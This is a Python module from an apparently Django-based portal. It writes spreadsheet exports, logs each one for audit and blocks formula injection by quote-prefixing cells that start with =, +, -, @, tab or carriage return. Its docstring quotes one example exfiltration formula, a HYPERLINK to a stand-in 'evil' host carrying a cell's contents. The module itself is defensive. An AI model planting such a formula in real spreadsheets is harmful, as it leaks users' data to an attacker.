"""Exports of data: every one leaves an audit record (who exported what, how many rows, in which format), and
none carries a live formula.

Formula injection: a cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run
as a formula by Excel (``=HYPERLINK("http://evil/?"&A1, "点击")`` as an activity title). Every spreadsheet the
portal writes goes through this module, so the rule lives in one place:

- openpyxl workbooks are ``core.exports.Workbook``: such a text is written as a text cell with Excel's quote
  prefix (shown exactly as typed, never evaluated, not even after editing the cell);
- django-import-export exports (the admin's) pass their rows through ``neutralise_dataset``: such a text gets
  a leading apostrophe, which every format (CSV, TSV, XLSX, ODS...) keeps as text.

Numbers, dates and empty cells are left as they are (a negative number is a number, not text). Characters
a workbook cannot hold (control characters, lone surrogates) become U+FFFD instead of failing the export.
"""

from __future__ import annotations

import re
import shutil
from datetime import UTC, datetime
from decimal import Decimal
from inspect import isgenerator
from tempfile import SpooledTemporaryFile
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
from django.http import HttpResponse
from openpyxl.cell.cell import ERROR_CODES, Cell
from openpyxl.compat import safe_string
from openpyxl.compat.numbers import NUMERIC_TYPES
from openpyxl.drawing.spreadsheet_drawing import SpreadsheetDrawing
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet._writer import WorksheetWriter
from openpyxl.worksheet.worksheet import Worksheet
from openpyxl.writer.excel import ExcelWriter

from core.services import record_event
from core.verbs import CoreVerb

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# OWASP's list: what spreadsheet programs read as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]")


def neutralise(value):
    """``value`` safe for any spreadsheet format: formula-like text behind an apostrophe, other values as they are."""
    if not isinstance(value, str):
        return value
    value = _UNWRITABLE.sub("\ufffd", value)
    return "'" + value if value.startswith(FORMULA_START) else value


def neutralise_dataset(dataset):
    """A tablib ``Dataset`` (django-import-export) with every cell passed through ``neutralise``, in place."""
    for index, row in enumerate(dataset):
        if any(isinstance(value, str) for value in row):
            dataset[index] = [neutralise(value) for value in row]
    return dataset


def _cell(sheet, value):
    """A value for ``sheet.append``: formula-like text as a quoted text cell, which Excel never evaluates."""
    if not isinstance(value, str):
        return value
    value = _UNWRITABLE.sub("\ufffd", value)
    if not value.startswith(FORMULA_START):
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # placed by append
    cell.data_type = "s"  # openpyxl made "=..." a formula
    cell.quotePrefix = True
    return cell


class _SafeSheet(Worksheet):
    def append(self, iterable):
        if isinstance(iterable, dict):
            raise TypeError("Append a list of values.")
        super().append([_cell(self, value) for value in iterable])

    def extend(self, rows) -> None:
        """``append`` each of ``rows`` (as the write-only sheet's ``extend``)."""
        for row in rows:
            self.append(row)

    def cell(self, row, column, value=None):
        cell = super().cell(row, column)
        if value is not None:
            safe = _cell(self, value)
            if isinstance(safe, Cell):
                cell.value, cell.data_type, cell.quotePrefix = safe.value, "s", True
            else:
                cell.value = safe
        return cell


class _SafeWriteOnlySheet(WriteOnlyWorksheet):
    def append(self, row):
        """openpyxl's; the formula guard is applied by ``_values_to_row``, after a row of plain values was tried."""
        super().append(list(row) if isgenerator(row) else row)

    def extend(self, rows) -> None:
        """``append`` each of ``rows``, the plain ones (most rows of an export) written as their XML at once, straight
        into the sheet's rows held for writing: not sent one by one through openpyxl's row generator, which cost as
        much as writing the row (#22: the groups' funding, 1,185 rows, 5 ms of a 28 ms download). A row that is not
        plain, and the first (which opens the sheet's data, or fails on a sheet already saved), take ``append``."""
        writer = None
        for row in rows:
            if writer is not None and type(row) in (list, tuple):
                xml = _plain_row_xml(self._row_idx, row)
                if xml is not None:
                    writer._hold(self._xf, xml)
                    self._row_idx += 1
                    continue
            self.append(row)
            writer = self._writer

    def _get_writer(self):
        if self._writer is None:
            self._writer = _SheetWriter(self)
            self._writer.write_top()

    def _values_to_row(self, values, row_idx):
        """A row of plain values (text, numbers, booleans, empty) as its XML at once; any other row (a formula-like
        text's cell, a date) cell by cell, as openpyxl does."""
        row = _plain_row_xml(row_idx, values)
        if row is not None:
            return row
        values = [_cell(self, value) for value in values]
        plain = []
        for column, value in enumerate(values, 1):
            if value is None:
                continue
            kind = _PLAIN_KIND.get(type(value))
            if kind is None and isinstance(value, str):  # a safe or lazy string's text, as openpyxl binds it
                kind, value = "s", str(value)
            if kind is None or (kind == "s" and value in ERROR_CODES):
                return super()._values_to_row(values, row_idx)
            plain.append((column, kind, value[:STRING_MAX] if kind == "s" else value, None))
        row = _row_xml(row_idx, plain)
        return super()._values_to_row(values, row_idx) if row is None else row

    def _write_rows(self):
        """openpyxl's, with the rows written at once by ``_SheetWriter`` put out before the sheet's data ends."""
        try:
            xf = self._writer.xf.send(True)
        except StopIteration:
            self._already_saved()
        with xf.element("sheetData"):
            self._xf, self._row_idx = xf, 1  # the next row's number, shared with ``extend``
            try:
                while True:
                    row = yield
                    self._writer.write_row(xf, self._values_to_row(row, self._row_idx), self._row_idx)
                    self._row_idx += 1
            except GeneratorExit:
                pass
            self._writer.put_out(xf)
        self._writer.xf.send(None)


# Writing a workbook (#22: openpyxl spent most of a small export's time here). openpyxl writes each sheet into a
# named temporary file (created, written, read back into the zip, removed: 2-4 ms a sheet on a busy disk) and each
# cell through a dozen Python calls and lxml elements (20-30 µs a cell). The workbooks below are written the same,
# part for part, with two changes: a sheet's XML is kept in memory (spilled to an anonymous temporary file past
# ``SPOOL_BYTES``, so a worker's big export stays bounded), and a row of plain cells (text, numbers, booleans, empty)
# is written as XML text of our own (``_row_xml``), between lxml's, the same infoset as openpyxl's elements
# (``tests/core/test_export_writer.py`` compares every part of the workbooks).
SPOOL_BYTES = 8 * 1024 * 1024
ROWS_HELD = 1000  # plain rows held before they are put out
STRING_MAX = 32767  # openpyxl cuts longer texts (Excel's limit)
_PLAIN_KIND = {str: "s", bool: "b", int: "n", float: "n", Decimal: "n"}
# zlib's fastest level, not its default (6): a workbook's XML is repetitive enough that level 1 keeps most of the
# saving for a third of the time (#22: the groups' funding at 50k, 371 kB of XML, deflated in 1.0 ms instead of 2.7,
# 45 kB instead of 38, of a 40 ms download); every reader of XLSX reads any level.
COMPRESS_LEVEL = 1
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")  # openpyxl's path refuses them
# what a plain text may hold that is escaped (``_text_xml``) or refused (``_NOT_XML``): one scan finds either
_SPECIAL = re.compile("[&<>\r\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_FORMULA_CHARS = frozenset(FORMULA_START)  # each one character: ``value[0] in`` is ``value.startswith(FORMULA_START)``
_ERROR_CODES = frozenset(ERROR_CODES)
_LETTERS = ("", *(get_column_letter(n) for n in range(1, 703)))  # A … ZZ, by column number


def _text_xml(value: str) -> str:
    """Text escaped as lxml escapes it: ``str.replace`` rather than ``str.translate``, which looks each character
    up in a mapping (12 µs for a link of 77 characters, 1.6 µs replaced)."""
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")


def _plain_row_xml(row_idx: int, values) -> str | None:
    """``<row>`` of ``values`` as ``_row_xml`` writes them after the formula guard (``_cell``) and openpyxl's
    binding, in one pass over the values as appended, or None when one of them is not a plain value of the
    exact types ``str``, ``int``, ``float``, ``Decimal``, ``bool`` (the caller then takes the long way): a text
    that the guard would change (formula-like, a character a workbook cannot hold) or openpyxl would bind as an
    error code, a date, a cell, a lazy or safe string. Most rows of an export are plain; this is their path.

    A text is scanned once for anything to escape or refuse (``_SPECIAL``): most have nothing, and are written as
    they are (#22: the funding workbook's 1,184 rows, most of its writing time)."""
    r = str(row_idx)
    parts = [f'<row r="{r}">']
    for column, value in enumerate(values, 1):
        kind = type(value)
        ref = _LETTERS[column] + r if column < len(_LETTERS) else get_column_letter(column) + r
        if kind is str:
            if value == "":
                parts.append(f'<c r="{ref}" t="inlineStr"/>')
                continue
            if value[0] in _FORMULA_CHARS or value in _ERROR_CODES:
                return None
            cut = text = value[:STRING_MAX]
            if _SPECIAL.search(value):
                if _NOT_XML.search(value):
                    return None
                text = _text_xml(cut)
            space = ' xml:space="preserve"' if cut[0].isspace() or cut[-1].isspace() else ""
            parts.append(f'<c r="{ref}" t="inlineStr"><is><t{space}>{text}</t></is></c>')
        elif kind is int or kind is bool:
            t = "n" if kind is int else "b"
            parts.append(f'<c r="{ref}" t="{t}"><v>{value:.16g}</v></c>')
        elif kind is float or kind is Decimal:
            parts.append(f'<c r="{ref}" t="n"><v>{safe_string(value)}</v></c>')
        elif value is not None:
            return None
    parts.append("</row>")
    return "".join(parts)


def _row_xml(row_idx: int, cells) -> str | None:
    """``<row>`` of ``cells`` ((column, data type, value, style id or None), values bound as openpyxl binds them) as
    XML text, or None when one of them is not plain (the caller writes that row as openpyxl does)."""
    parts = [f'<row r="{row_idx}">']
    for column, kind, value, style in cells:
        ref = f"{get_column_letter(column)}{row_idx}"
        s = "" if style is None else f' s="{style}"'
        if kind == "s":
            if not isinstance(value, str) or _NOT_XML.search(value):  # rich text; a character XML cannot hold
                return None
            if value == "":
                parts.append(f'<c r="{ref}"{s} t="inlineStr"/>')
                continue
            space = ' xml:space="preserve"' if value != value.strip() else ""
            parts.append(f'<c r="{ref}"{s} t="inlineStr"><is><t{space}>{_text_xml(value)}</t></is></c>')
        elif kind in ("n", "b") and (value is None or isinstance(value, NUMERIC_TYPES)):
            if value is None:
                parts.append(f'<c r="{ref}"{s} t="{kind}"/>')
            else:
                parts.append(f'<c r="{ref}"{s} t="{kind}"><v>{safe_string(value)}</v></c>')
        else:
            return None
    parts.append("</row>")
    return "".join(parts)


class _SheetWriter(WorksheetWriter):
    """openpyxl's sheet writer into memory, a row of plain cells as XML text of our own."""

    def __init__(self, ws):
        super().__init__(ws, out=SpooledTemporaryFile(max_size=SPOOL_BYTES))  # noqa: SIM115 (closed by _ExcelWriter)
        self._held: list[str] = []

    def put_out(self, xf) -> None:
        """The rows held, into the sheet: after what lxml has written, before what it writes next."""
        if self._held:
            xf.flush()
            self.out.write("".join(self._held).encode())
            self._held.clear()

    def write_rows(self):
        """openpyxl's, with the rows held put out before the sheet's data ends."""
        xf = self.xf.send(True)
        with xf.element("sheetData"):
            for row_idx, row in self.rows():
                self.write_row(xf, row, row_idx)
            self.put_out(xf)
        self.xf.send(None)

    def write_row(self, xf, row, row_idx):
        if isinstance(row, str):  # made by a write-only sheet's ``_values_to_row``
            self._hold(xf, row)
            return
        if isinstance(row, list) and row_idx not in self.ws.row_dimensions:
            cells = []
            for cell in row:
                if cell._comment is not None or cell.hyperlink is not None:
                    break
                styled = cell.has_style
                if cell._value is None and not styled:
                    continue
                cells.append((cell.column, cell.data_type, cell._value, cell.style_id if styled else None))
            else:
                xml = _row_xml(row_idx, cells)
                if xml is not None:
                    self._hold(xf, xml)
                    return
        self.put_out(xf)
        super().write_row(xf, row, row_idx)

    def _hold(self, xf, xml: str) -> None:
        self._held.append(xml)
        if len(self._held) >= ROWS_HELD:
            self.put_out(xf)


class _ExcelWriter(ExcelWriter):
    def write_worksheet(self, ws):
        """openpyxl's, with the sheet's XML copied from memory rather than from a named temporary file."""
        ws._drawing = SpreadsheetDrawing()
        ws._drawing.charts = ws._charts
        ws._drawing.images = ws._images
        if self.workbook.write_only:
            if not ws.closed:
                ws.close()
            writer = ws._writer
        else:
            writer = _SheetWriter(ws)
            writer.write()
        ws._rels = writer._rels
        writer.out.seek(0)
        with self._archive.open(ws.path[1:], "w") as part:
            shutil.copyfileobj(writer.out, part)
        self.manifest.append(ws)
        writer.out.close()


class Workbook(openpyxl.Workbook):
    """An openpyxl workbook whose sheets never hold a formula from data: every export builds on it."""

    def __init__(self, write_only: bool = False, iso_dates: bool = False):
        super().__init__(write_only=write_only, iso_dates=iso_dates)
        if not write_only:
            self._sheets = []  # before the safe sheet is made, or it would be named "Sheet1" beside openpyxl's "Sheet"
            self._sheets = [_SafeSheet(self)]

    def create_sheet(self, title=None, index=None):
        sheet = (_SafeWriteOnlySheet if self.write_only else _SafeSheet)(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet

    def save(self, filename):
        """openpyxl's ``save_workbook`` with the writer above."""
        if self.write_only and not self.worksheets:
            self.create_sheet()
        self.properties.modified = datetime.now(tz=UTC).replace(tzinfo=None)
        _ExcelWriter(self, ZipFile(filename, "w", ZIP_DEFLATED, allowZip64=True, compresslevel=COMPRESS_LEVEL)).save()


def export_filename(title, *parts, extension: str = "xlsx") -> str:
    """A download's name in the user's language with the local date: ``提案统计-2026-20261205.xlsx``."""
    from django.utils import timezone

    words = [str(title), *(str(p) for p in parts if p not in (None, ""))]
    return "-".join([*words, timezone.localdate().strftime("%Y%m%d")]) + f".{extension}"


def attachment_header(filename: str) -> str:
    """``Content-Disposition`` for a download whose name may be Chinese (RFC 6266 ``filename*``)."""
    from django.utils.http import content_disposition_header

    return content_disposition_header(True, filename)


def xlsx_download(content: bytes, filename: str) -> HttpResponse:
    """An Excel workbook's bytes as a download named ``filename`` (with its .xlsx; Chinese is fine)."""
    response = HttpResponse(content, content_type=XLSX)
    response["Content-Disposition"] = attachment_header(filename)
    return response


def record_export(
    request_or_user,
    what: str,
    rows: int | None = None,
    *,
    obj=None,
    file_format: str = "xlsx",
    masked: bool | None = None,
) -> None:
    """Record an export in the audit log (``verb="export"``). ``obj`` is the record the export hangs on
    (default: the exporting user, so the event is found on their timeline)."""
    user = getattr(request_or_user, "user", request_or_user)
    data = {"what": what, "rows": rows, "format": file_format}
    if masked is not None:
        data["masked"] = masked
    record_event(
        obj if obj is not None else user,
        actor=user if getattr(user, "is_authenticated", False) else None,
        verb=CoreVerb.EXPORT,
        comment=what,
        data=data,
    )
